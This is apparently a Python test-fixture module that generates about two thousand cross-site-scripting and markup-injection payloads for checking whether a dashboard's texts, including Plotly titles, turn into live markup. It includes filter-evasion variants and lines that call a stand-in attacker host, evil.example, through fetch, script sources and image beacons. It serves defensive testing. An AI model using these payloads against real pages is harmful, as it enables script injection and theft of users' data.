"""Two thousand texts that would run a script, or call a foreign host, where text became markup."""

from collections.abc import Sequence

FOREIGN = "evil.example"
"""Host that no page of ours has any business with."""

RUN = "window.__hit"
"""What a payload sets where it is run."""

_CALLS = (
    "window.__hit={n}",
    "window[`__hit`]={n}",
    "top.__hit={n}",
    "self['__h'+'it']={n}",
    "document.title='hit{n}'",
    "fetch('//evil.example/{n}')",
    "new Image().src='//evil.example/{n}'",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java&#10;script:", "java&Tab;script:", "&#106;avascript:",
    " javascript:", "\x01javascript:", "javascript&colon;", "vbscript:", "data:text/html,",
    "data:text/html;base64,", "java\u0000script:", "javascript://%0a", "feed:javascript:",
)  # fmt: skip
_TAGS = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT >",
    "<script src=//evil.example/{n}.js></script>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<img/src=x/onerror={js}>",
    "<img src=//evil.example/{n}.png>",
    "<img srcset='//evil.example/{n}.png 1x'>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='{scheme}{js}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'/></svg>",
    "<svg><foreignObject><body onload={js}></foreignObject></svg>",
    "<body onload={js}>",
    "<details open ontoggle={js}>x",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<video src=x onerror={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe src='{scheme}{js}'></iframe>",
    "<iframe srcdoc='<script>parent.__hit={n}</script>'></iframe>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<object data='{scheme}{js}'></object>",
    "<embed src='{scheme}{js}'>",
    "<embed src=//evil.example/{n}>",
    "<form action='{scheme}{js}'><button>go</button></form>",
    "<button formaction='{scheme}{js}'>go</button>",
    "<a href='{scheme}{js}'>x</a>",
    "<a href=# onmouseover={js}>x</a>",
    "<div style='background:url(//evil.example/{n})'>x</div>",
    "<div onpointerenter={js} style='position:fixed;inset:0'>x</div>",
    "<style>@import'//evil.example/{n}.css';</style>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<meta http-equiv=refresh content='0;url={scheme}{js}'>",
    "<base href=//evil.example/{n}/>",
    "<marquee onstart={js}>x</marquee>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<math href='{scheme}{js}'>x</math>",
    "<template><img src=x onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<textarea></textarea><img src=x onerror={js}>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "</title><img src=x onerror={js}>",
    "</pre></code><img src=x onerror={js}>",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "\\u003cimg src=x onerror={js}\\u003e",
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    "' onmouseover='{js}' x='",
    '" autofocus onfocus="{js}" x="',
    "<x onclick={js}>click",
    "<table background=//evil.example/{n}><tr><td onclick={js}>x",
)
_MARKDOWN = (
    "[x]({scheme}{js})",
    "[x](<{scheme}{js}>)",
    "[x]({scheme}{js} 'title')",
    "![x](//evil.example/{n}.png)",
    "![x](http://evil.example/{n}.png)",
    "![x](https://evil.example/{n}.svg 'x')",
    "![x]({scheme}{js})",
    "[![x](http://evil.example/{n}.png)]({scheme}{js})",
    "![x][r{n}]\n\n[r{n}]: http://evil.example/{n}.png",
    "[x][l{n}]\n\n[l{n}]: {scheme}{js}",
    "<{scheme}{js}>",
    "| a | b |\n| - | - |\n| <img src=x onerror={js}> | ![x](http://evil.example/{n}.png) |",
    "| <script>{js}</script> | [x]({scheme}{js}) |\n| - | - |\n| a | b |",
    "```html\n<script>{js}</script>\n```",
    "```\n```<img src=x onerror={js}>",
    "`<img src=x onerror={js}>`",
    "~~~<img src=x onerror={js}>\n~~~",
    "> <img src=x onerror={js}>",
    "- <svg onload={js}>",
    "# <svg onload={js}>",
    ":img[x]{{src=x onerror={js}}}",
    "::iframe{{src=//evil.example/{n}}}",
    ":::div{{onclick={js}}}\nx\n:::",
    ":script[{js}]",
    "$\\href{{{scheme}{js}}}{{x}}$",
    "$$\\htmlData{{onclick={js}}}{{x}}$$",
    "[^{n}]\n\n[^{n}]: <img src=x onerror={js}>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "<!-- --><script>{js}</script>",
)
_TITLES = (
    "<a href='{scheme}{js}'>x</a>",
    "<b onclick={js}>x</b>",
    "<span style='background:url(//evil.example/{n})'>x</span>",
    "<img src=x onerror={js}>",
    "<a href='http://evil.example/{n}' target=_top>x</a>",
    "<svg onload={js}>",
)
"""What Plotly's texts might make markup of."""


def payloads(count: int = 2000, forms: Sequence[str] = (*_TAGS, *_MARKDOWN)) -> list[str]:
    """Different payloads, each with its number in what it does."""
    found: list[str] = []
    for n in range(count):
        form = forms[n % len(forms)]
        js = _CALLS[(n // len(forms) + n) % len(_CALLS)].format(n=n)
        scheme = _SCHEMES[(n // 3) % len(_SCHEMES)]
        found.append(form.format(js=js, n=n, scheme=scheme))
    return found


def titles(count: int) -> list[str]:
    """Payloads for what is drawn: names of devices and channels, short ones."""
    return payloads(count, _TITLES)
